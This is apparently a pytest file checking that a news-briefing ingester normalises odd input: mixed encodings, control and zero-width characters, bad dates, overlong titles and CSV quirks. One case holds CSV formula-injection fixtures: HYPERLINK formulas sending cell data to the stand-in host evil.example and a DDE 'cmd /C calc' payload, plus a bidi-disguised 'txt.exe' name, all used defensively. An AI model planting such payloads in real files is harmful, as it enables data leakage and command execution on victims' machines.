"""Text that is odd but readable is kept, and what is stored is what a reader should see: encodings decoded
right, invisible and control characters gone, formulas inert, bad dates and overlong titles dropped or cut
with a note naming the file and record."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

import briefing
from briefing.types import article_id
from tests.reliability.conftest import GOOD_ID, catalog, chunks_of, ingest_beside_good

BODY = "The harbour reopened on Monday after repairs. Officials said 40 ships were waiting to load grain."
ACCENTED = "Naïve café owners in Montréal protest; rents rose £300 for façades."
LONG = "Very long headline " * 527  # 10,012 characters and a space
CUT = LONG[:299].rstrip() + "…"

# (case id, file name, content, stored text, stored title, stored date, notes)
CASES: list[tuple[str, str, bytes | str, str, str, str | None, list[str]]] = [
    ("Latin-1", "latin1.txt", ACCENTED.encode("latin-1"), ACCENTED, ACCENTED, None, []),
    ("UTF-16 LE with BOM", "bom-le.txt", ACCENTED.encode("utf-16"), ACCENTED, ACCENTED, None, []),
    ("UTF-16 BE with BOM", "bom-be.txt", b"\xfe\xff" + ACCENTED.encode("utf-16-be"), ACCENTED, ACCENTED, None, []),
    ("UTF-16 LE without BOM", "le.md", ACCENTED.encode("utf-16-le"), ACCENTED, ACCENTED, None, []),
    ("UTF-16 BE without BOM", "be.txt", ACCENTED.encode("utf-16-be"), ACCENTED, ACCENTED, None, []),
    (
        "mixed UTF-8 and Latin-1",
        "mixed.txt",
        "Café owners, ".encode() + "café prices.".encode("latin-1"),
        "Café owners, café prices.",
        "Café owners, café prices.",
        None,
        [],
    ),
    (
        "stray invalid byte in UTF-8",
        "stray.txt",
        "Zürich talks. ".encode() + b"Bad \x81 byte. " + BODY.encode() * 2,
        "Zürich talks. Bad \ufffd byte. " + BODY * 2,
        "Zürich talks.",
        None,
        [],
    ),
    (
        "NUL bytes inside text",
        "nul.txt",
        BODY.replace("Monday", "Mon\x00day").encode() * 1 + b"\n" + BODY.encode() * 3,
        BODY + "\n" + BODY * 3,
        "The harbour reopened on Monday after repairs.",
        None,
        [],
    ),
    (
        "control characters and ANSI escapes",
        "ctl.txt",
        "\x1b[2J\x1b[31mAlert\x07 raised\x1b[0m in port.\x08\x0b " + BODY * 3,
        "Alert raised in port. " + BODY * 3,
        "Alert raised in port.",
        None,
        [],
    ),
    (
        "bidi overrides",
        "bidi.txt",
        "Invoice \u202etxt.exe\u202c paid. \u2066Isolated\u2069 text. " + BODY,
        "Invoice txt.exe paid. Isolated text. " + BODY,
        "Invoice txt.exe paid.",
        None,
        [],
    ),
    (
        "zero-width characters",
        "zw.txt",
        "Pu\u200btin met Zel\u200c\u200denskyy\u2060 in Ge\ufeffneva. " + BODY,
        "Putin met Zelenskyy in Geneva. " + BODY,
        "Putin met Zelenskyy in Geneva.",
        None,
        [],
    ),
    (
        "impossible date",
        "feb.txt",
        f"date 2017-02-30\n{BODY}",
        BODY,
        "The harbour reopened on Monday after repairs.",
        None,
        ["date '2017-02-30' is not a day between 1800 and 2200; stored without a date"],
    ),
    (
        "far-future date",
        "future.json",
        json.dumps({"text": BODY, "title": "T", "date": "9999-12-31"}),
        BODY,
        "T",
        None,
        ["record 1: date '9999-12-31' is not a day between 1800 and 2200; stored without a date"],
    ),
    (
        "10k-character title",
        "long.json",
        json.dumps([{"text": BODY, "title": LONG, "date": "2024-01-02"}]),
        BODY,
        CUT,
        "2024-01-02",
        ["record 1: title cut to 300 characters (it had 10,012)"],
    ),
    (
        "10k-character Markdown heading",
        "long.md",
        f"# {LONG}\n\n{BODY}",
        BODY,
        CUT,
        None,
        ["title cut to 300 characters (it had 10,012)"],
    ),
    (
        "JSON lone surrogate",
        "sur.jsonl",
        '{"text": "Broken \\ud83d emoji in a report from the port today."}\n',
        "Broken \ufffd emoji in a report from the port today.",
        "Broken \ufffd emoji in a report from the port today.",
        None,
        [],
    ),
    (
        "CSV with BOM",
        "bom.csv",
        b"\xef\xbb\xbftext,title,date\r\n" + f'"{BODY}",Port,2024-01-03\r\n'.encode(),
        BODY,
        "Port",
        "2024-01-03",
        [],
    ),
    (
        "CSV quoted newlines",
        "nl.csv",
        f'text,title\n"{BODY}\n\nSecond paragraph, with a comma.",Port\n',
        f"{BODY}\n\nSecond paragraph, with a comma.",
        "Port",
        None,
        [],
    ),
    (
        "CSV formula cells",
        "formula.csv",
        'text,title,source\n"=HYPERLINK(""http://evil.example/?q=""&A1,""x"") ' + BODY + '",'
        '"=HYPERLINK(""http://evil.example/"",""Click"")","@SUM(1+1)*cmd|\' /C calc\'!A0"\n',
        'HYPERLINK("http://evil.example/?q="&A1,"x") ' + BODY,
        'HYPERLINK("http://evil.example/","Click")',
        None,
        [],
    ),
]


@pytest.mark.parametrize(
    ("name", "content", "text", "title", "date", "notes"), [c[1:] for c in CASES], ids=[c[0] for c in CASES]
)
def test_odd_text_is_kept_as_a_reader_should_see_it(
    name: str,
    content: bytes | str,
    text: str,
    title: str,
    date: str | None,
    notes: list[str],
    rt: briefing.Runtime,
    tmp_path: Path,
) -> None:
    folder = tmp_path / "batch"
    folder.mkdir()
    path = folder / name
    path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
    batch = ingest_beside_good(rt, folder, path)
    assert batch.report.skipped == []
    assert batch.report.notes == [(str(path), note) for note in notes]
    kept = article_id(text)
    assert batch.new == {GOOD_ID, kept}
    entry = catalog(rt, kept)
    assert (entry["title"], entry.get("date") or None) == (title, date)
    documents, metas = chunks_of(rt, {kept})
    assert documents[0].startswith(text[:40]) and all(m["title"] == title for m in metas)
    shown = "".join([*documents, entry["title"], entry["source"]])
    for invisible in ("\x00", "\x1b", "\x07", "\x08", "\u202e", "\u2066", "\u200b", "\u200d", "\ufeff", "\u2060"):
        assert invisible not in shown
    assert not entry["source"].startswith(("=", "+", "-", "@"))
